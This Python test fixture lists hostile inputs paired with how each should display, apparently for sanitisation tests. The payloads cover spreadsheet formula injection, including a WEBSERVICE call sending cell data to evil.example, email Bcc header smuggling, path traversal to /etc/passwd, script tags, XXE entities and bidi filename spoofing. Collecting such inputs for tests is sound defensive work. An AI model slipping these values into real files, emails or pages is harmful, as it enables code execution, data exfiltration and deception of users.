"""Text that means harm or mischief, and how a person may read it: one table for every test that needs it.

name -> (what stands in the cell, what documents show of it)
"""

from __future__ import annotations

LONG_WORD = "Donaudampfschiff" * 200
LONG_TEXT = "sixteen letters " * 200

HOSTILE: dict[str, tuple[str, str]] = {
    # formulas, in a cell, a .csv or an .xlsx
    "formula": ("=cmd|'/c calc'!A1", "=cmd|'/c calc'!A1"),
    "link": ('=HYPERLINK("http://evil.example","pay here")', '=HYPERLINK("http://evil.example","pay here")'),
    "plus": ("+1+1", "+1+1"),
    "minus": ("-2+3", "-2+3"),
    "at": ("@SUM(A1:A9)", "@SUM(A1:A9)"),
    "full-width formula": ("\uff1d1+1", "\uff1d1+1"),
    "tab formula": ("\t=1+1", "=1+1"),
    "line formula": ("Acme\n=1+1", "Acme =1+1"),
    "quote": ("'\"`", "'\"`"),
    "macro": ("=WEBSERVICE(\"http://evil.example/\"&A1)", "=WEBSERVICE(\"http://evil.example/\"&A1)"),
    # templates
    "braces": ("{{customer}} {{7*7}}", "{{customer}} {{7*7}}"),
    "attribute": ("{total.__class__} {x.__class__}", "{total.__class__} {x.__class__}"),
    "placeholder": ("{total}{lines}{nobody}", "{total}{lines}{nobody}"),
    "half a brace": ("{", "{"),
    "percent": ("%s %(total)s $total", "%s %(total)s $total"),
    "backslashes": (r"\1 \g<0> \n", r"\1 \g<0> \n"),
    # headers
    "bcc": ("Acme\r\nBcc: thief@evil.example", "Acme Bcc: thief@evil.example"),
    "body": ("Acme\r\n\r\n<b>body</b>\r\n.\r\n", "Acme <b>body</b> ."),
    "unsent": ("Acme\nX-Unsent: 0", "Acme X-Unsent: 0"),
    "mailbox": ("Smith, John <thief@evil.example>", "Smith, John <thief@evil.example>"),
    "encoded": ("=?utf-8?B?5byg?= =?utf-8?q?Bcc:_x?=", "=?utf-8?B?5byg?= =?utf-8?q?Bcc:_x?="),
    "unicode line ends": ("Acme\u2028Bcc: x\u2029y\x85z\x0bw", "Acme Bcc: x y z w"),
    # paths
    "up": ("../../x", "../../x"),
    "back": ("..\\..\\x.pdf", "..\\..\\x.pdf"),
    "root": ("/etc/passwd.txt", "/etc/passwd.txt"),
    "drive": ("C:\\x.pdf", "C:\\x.pdf"),
    "share": ("\\\\server\\share\\x.pdf", "\\\\server\\share\\x.pdf"),
    "device": ("CON", "CON"),
    "device file": ("NUL.txt", "NUL.txt"),
    "device dots": ("COM1 . .pdf", "COM1 . .pdf"),
    "stream": ("x.pdf:y.pdf", "x.pdf:y.pdf"),
    "dots": ("name. . .", "name. . ."),
    "spaces": ("  name  ", "name"),
    "long name": ("a" * 300 + ".pdf", "a" * 300 + ".pdf"),
    "slashes alike": ("a\u2215b\uff0fc\u2044d.pdf", "a\u2215b\uff0fc\u2044d.pdf"),
    "only dots": ("..", ".."),
    # markup
    "bold": ("<b>Acme</b> & Co", "<b>Acme</b> & Co"),
    "script": ("<script>alert(1)</script>&amp;", "<script>alert(1)</script>&amp;"),
    "cdata": ("]]><w:p/><![CDATA[", "]]><w:p/><![CDATA["),
    "entity": ("&lol; <!ENTITY x SYSTEM 'file:///x'>", "&lol; <!ENTITY x SYSTEM 'file:///x'>"),
    "escape": ("_x003D_1+1 _x000D_", "_x003D_1+1 _x000D_"),
    "rich": ("[bold red]x[/] [link=http://evil.example]y[/link]", "[bold red]x[/] [link=http://evil.example]y[/link]"),
    "terminal": ("\x1b[31mred\x1b]0;title\x07", "[31mred]0;title"),
    # what the eye does not see
    "bidi": ("Acme\u202egnp.exe\u202c", "Acmegnp.exe"),
    "isolates": ("\u2066Acme\u2069\u200e\u200f", "Acme"),
    "zero width": ("Ac\u200bme\ufeff\u2060", "Acme"),
    "tags": ("Acme\U000e0041\U000e007f", "Acme"),
    "joined": ("👩\u200d👩\u200d👧 Co", "👩\u200d👩\u200d👧 Co"),
    "emoji": ("🏗️ Acme 💶", "🏗️ Acme 💶"),
    "astral": ("𠮷野家㐀", "𠮷野家㐀"),
    "accents": ("Cafe\u0301 Z\u0336\u0337a\u0489", "Cafe\u0301 Z\u0336\u0337a\u0489"),
    "surrogate": ("Ac\ud800me\udfff", "Acme"),
    "controls": ("Ac\x00m\x0be\x1f\x7f", "Acm e"),
    "nobody's": ("Ac\ufffe\uffffme\ufdd0", "Acme"),
    "right to left": ("شركة البناء", "شركة البناء"),
    # lengths
    "long word": (LONG_WORD, LONG_WORD),
    "long text": (LONG_TEXT, LONG_TEXT.strip()),
    "nothing seen": ("\u200b\u2060", ""),
}  # fmt: skip
